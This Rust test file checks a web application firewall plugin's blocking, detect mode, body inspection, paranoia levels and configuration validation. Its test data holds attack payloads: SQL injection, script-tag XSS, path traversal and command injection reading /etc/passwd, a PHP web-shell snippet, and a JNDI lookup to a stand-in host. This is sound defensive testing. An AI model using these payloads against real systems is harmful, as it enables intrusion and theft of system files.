//! The filter on the test kit: blocking, detect mode, bodies, paranoia
//! levels, exclusions and configuration errors.

use weir_sdk::LogLevel;
use weir_sdk::testing::{Request, TestKit};

use super::*;

const SQLI_QUERY: &str = "/items?id=1%27%20OR%20%271%27=%271";

fn kit(config: &str) -> TestKit<Waf> {
    TestKit::<Waf>::configure(config).expect("configured")
}

/// The status of the local reply to `request`, or `None` when it passed.
fn outcome(kit: &TestKit<Waf>, request: Request) -> Option<u16> {
    let mut exchange = kit.request(request);
    let flow = exchange.send_headers();
    let flow = if flow == Flow::Continue && !exchange.request_body().is_empty() {
        exchange.send_body()
    } else {
        flow
    };
    match exchange.local_reply() {
        Some(reply) => Some(reply.status),
        None => {
            assert_eq!(flow, Flow::Continue);
            None
        }
    }
}

fn warnings(kit: &TestKit<Waf>) -> Vec<String> {
    kit.logs()
        .into_iter()
        .filter(|(level, _)| *level == LogLevel::Warn)
        .map(|(_, line)| line)
        .collect()
}

#[test]
fn blocks_sql_injection_in_the_query_with_json_and_the_rules_in_the_log() {
    let kit = kit("{}");
    let mut exchange = kit.request(Request::get(SQLI_QUERY).header("x-request-id", "r1"));
    assert_eq!(exchange.send_headers(), Flow::Pause);
    let reply = exchange.local_reply().expect("refused");
    assert_eq!(reply.status, 403);
    let body = reply.json();
    assert_eq!(body["error"]["code"], "waf_blocked");
    assert_eq!(body["error"]["request_id"], "r1");
    assert!(
        !String::from_utf8_lossy(&reply.body).contains("OR"),
        "the payload is not echoed"
    );
    let logs = warnings(&kit);
    assert_eq!(logs.len(), 1, "{logs:?}");
    assert!(
        logs[0].starts_with("waf: blocked GET /items: anomaly score "),
        "{}",
        logs[0]
    );
    assert!(
        logs[0].contains("942100"),
        "libinjection's rule is named: {}",
        logs[0]
    );
    assert!(
        !logs[0].contains("OR"),
        "the payload is not logged: {}",
        logs[0]
    );
    assert_eq!(kit.metric("waf_blocked"), Some(1));
    assert_eq!(kit.metric("waf_detected"), Some(1));
}

#[test]
fn lets_honest_requests_through() {
    let kit = kit("{}");
    for request in [
        Request::get("/search?q=O%27Brien+%26+sons&page=2"),
        Request::get("/articles/2024/how-to-select-a-union-rep")
            .header("referer", "https://example.com/?a=1"),
        Request::post(
            "/api/users",
            r#"{"name": "Mary O'Neil", "bio": "I <3 SQL & tables", "age": 41}"#,
        )
        .header("content-type", "application/json"),
        Request::post(
            "/comment",
            "author=Jean-Luc&text=Don%27t+drop+the+ball%2C+it%27s+1+or+2+of+us",
        )
        .header("content-type", "application/x-www-form-urlencoded"),
    ] {
        assert_eq!(outcome(&kit, request), None);
    }
    assert_eq!(warnings(&kit), Vec::<String>::new());
    assert_eq!(kit.metric("waf_blocked"), Some(0));
}

#[test]
fn detect_mode_logs_and_lets_the_attack_through() {
    let kit = kit(r#"{"mode": "detect"}"#);
    assert_eq!(outcome(&kit, Request::get(SQLI_QUERY)), None);
    let logs = warnings(&kit);
    assert_eq!(logs.len(), 1);
    assert!(
        logs[0].starts_with("waf: detected GET /items"),
        "{}",
        logs[0]
    );
    assert_eq!(kit.metric("waf_detected"), Some(1));
    assert_eq!(kit.metric("waf_blocked"), Some(0));
}

#[test]
fn inspects_json_form_and_xml_bodies_once_whole() {
    let kit = kit("{}");
    let json = Request::post(
        "/api/login",
        r#"{"user": {"name": "admin' --", "pass": "x"}}"#,
    )
    .header("content-type", "application/json");
    let mut exchange = kit.request(json);
    assert_eq!(
        exchange.send_headers(),
        Flow::Continue,
        "the head alone is clean"
    );
    assert_eq!(exchange.send_body(), Flow::Pause);
    assert_eq!(exchange.local_reply().map(|r| r.status), Some(403));

    let xss = Request::post(
        "/comment",
        "text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    );
    assert_eq!(
        outcome(&kit, xss),
        Some(403),
        "a body without content type reads as a form"
    );

    let svg =
        Request::post("/upload", "<svg onload=alert(1)>").header("content-type", "image/svg+xml");
    assert_eq!(
        outcome(&kit, svg),
        None,
        "bodies of other types are not read"
    );
}

#[test]
fn a_body_over_max_body_bytes_is_refused() {
    let kit = kit(r#"{"max_body_bytes": 64}"#);
    let mut exchange = kit
        .request(Request::post("/api", r#"{"a": "b"}"#).header("content-type", "application/json"));
    assert_eq!(exchange.send_headers(), Flow::Continue);
    assert_eq!(
        exchange.send_body(),
        Flow::Continue,
        "a clean whole body goes on"
    );

    let big = format!(r#"{{"text": "{}"}}"#, "a".repeat(100));
    let mut exchange =
        kit.request(Request::post("/api", big).header("content-type", "application/json"));
    exchange.send_headers();
    exchange.send_body();
    let reply = exchange.local_reply().expect("refused");
    assert_eq!(reply.status, 413);
    assert_eq!(reply.json()["error"]["code"], "waf_body_too_large");
}

#[test]
fn a_body_that_is_not_the_json_it_claims_counts_as_rule_200002() {
    let broken = || Request::post("/api", "{\"a\": ").header("content-type", "application/json");
    let kit1 = kit("{}");
    assert_eq!(outcome(&kit1, broken()), Some(403));
    assert!(
        warnings(&kit1)[0].contains("rules 200002"),
        "{:?}",
        warnings(&kit1)
    );
    let kit2 = kit(r#"{"disabled_rules": [200002]}"#);
    assert_eq!(outcome(&kit2, broken()), None);
}

#[test]
fn paranoia_level_two_adds_rules_that_level_one_lacks() {
    // 942430 (PL2): many SQL special characters in one argument.
    let request = || Request::get("/q?filter=((a))%3B%3B%7C%7C((b))%3B%3B%7C%7C((c))");
    assert_eq!(outcome(&kit(r#"{"paranoia_level": 1}"#), request()), None);
    let kit = kit(r#"{"paranoia_level": 2}"#);
    assert_eq!(outcome(&kit, request()), Some(403));
    assert!(warnings(&kit)[0].contains("942430"), "{:?}", warnings(&kit));
}

#[test]
fn the_threshold_counts_severities() {
    // One critical rule scores 5: under a threshold of 6 it passes.
    let request = || Request::get("/x?id=1%20UNION%20SELECT%20password%20FROM%20users");
    let strict = kit("{}");
    assert_eq!(outcome(&strict, request()), Some(403));
    let lenient = kit(r#"{"anomaly_threshold": 100}"#);
    assert_eq!(outcome(&lenient, request()), None);
    let logs = lenient.logs();
    assert!(
        logs.iter().any(|(level, line)| *level == LogLevel::Info
            && line.contains("waf: passed GET /x: anomaly score")),
        "{logs:?}"
    );
}

#[test]
fn exclusions_skip_rules_and_paths() {
    let attack = |path: &str| Request::get(&format!("{path}?q=%3Cscript%3Ealert(1)%3C/script%3E"));
    let kit = kit(r#"{"skip_paths": ["/cms/"]}"#);
    assert_eq!(outcome(&kit, attack("/cms")), None);
    assert_eq!(outcome(&kit, attack("/cms/edit")), None);
    assert_eq!(
        outcome(&kit, attack("/cmsx")),
        Some(403),
        "only the path and below"
    );
}

#[test]
fn detects_other_attack_families() {
    let kit = kit("{}");
    for (path, family) in [
        ("/download?file=../../../../etc/passwd", "930"),
        ("/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "932"),
        ("/x?code=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B", "933"),
        ("/x?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.test%2Fa%7D", "944"),
    ] {
        let mut exchange = kit.request(Request::get(path));
        exchange.send_headers();
        assert_eq!(
            exchange.local_reply().map(|r| r.status),
            Some(403),
            "{path}"
        );
        let logs = warnings(&kit);
        let last = logs.last().expect("a log line");
        assert!(
            last.contains(&format!("rules {family}")) || last.contains(&format!(", {family}")),
            "{path}: {last}"
        );
    }
}

#[test]
fn bad_configurations_are_refused_at_their_field() {
    let refused = |config: &str| TestKit::<Waf>::configure(config).err().expect("refused");
    assert_eq!(
        refused(r#"{"paranoia_level": 5}"#).pointer,
        "/paranoia_level"
    );
    assert_eq!(
        refused(r#"{"anomaly_threshold": 0}"#).pointer,
        "/anomaly_threshold"
    );
    assert_eq!(
        refused(r#"{"max_body_bytes": 0}"#).pointer,
        "/max_body_bytes"
    );
    assert_eq!(
        refused(r#"{"disabled_rules": [942100, 123]}"#).pointer,
        "/disabled_rules/1"
    );
    assert_eq!(
        refused(r#"{"skip_paths": ["health"]}"#).pointer,
        "/skip_paths/0"
    );
    assert_eq!(refused(r#"{"mode": "log"}"#).pointer, "/mode");
    assert_eq!(refused(r#"{"paranoia": 2}"#).pointer, "/paranoia");
}

/// What the filter costs, natively: configuring it, and inspecting a
/// browser's GET and a JSON POST. A measurement, not a check: run with
/// `cargo test --release -p weir-waf cost -- --ignored --nocapture`.
#[test]
#[ignore = "a measurement; run in release"]
fn cost() {
    use std::time::Instant;
    for level in 1..=4 {
        let start = Instant::now();
        let _kit = kit(&format!(r#"{{"paranoia_level": {level}}}"#));
        println!("configure at paranoia level {level}: {:?}", start.elapsed());
    }
    let browser = || {
        Request::get("/search?q=O%27Reilly+books&page=2&sort=relevance")
            .header("host", "shop.example.com")
            .header("user-agent", "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0")
            .header("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
            .header("accept-language", "en-US,en;q=0.9")
            .header("accept-encoding", "gzip, deflate, br")
            .header("referer", "https://www.example.com/products?page=2&sort=price")
            .header("cookie", "_ga=GA1.2.1876543210.1715700000; sessionid=8f14e45fceea167a5a36dedd4bea2543; theme=dark")
    };
    let api = || {
        Request::post(
            "/api/v2/orders",
            r#"{"order_id": "ord_48213", "items": [{"sku": "SKU-311", "qty": 2, "price": 19.99}], "note": "Please leave it at the door, I'm out until 6pm.", "address": {"line1": "12 O'Connell Street", "city": "Dublin"}}"#,
        )
        .header("user-agent", "okhttp/4.12.0")
        .header("content-type", "application/json")
        .header("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ1XzQyIn0.c2ln")
    };
    for level in [1, 2] {
        let kit = kit(&format!(r#"{{"paranoia_level": {level}}}"#));
        for (name, make) in [
            ("browser GET", &browser as &dyn Fn() -> Request),
            ("JSON POST", &api),
        ] {
            let rounds = 2000u32;
            let start = Instant::now();
            for _ in 0..rounds {
                assert_eq!(outcome(&kit, make()), None);
            }
            println!(
                "paranoia level {level}, {name}: {:.1} µs",
                start.elapsed().as_secs_f64() * 1e6 / f64::from(rounds)
            );
        }
    }
}
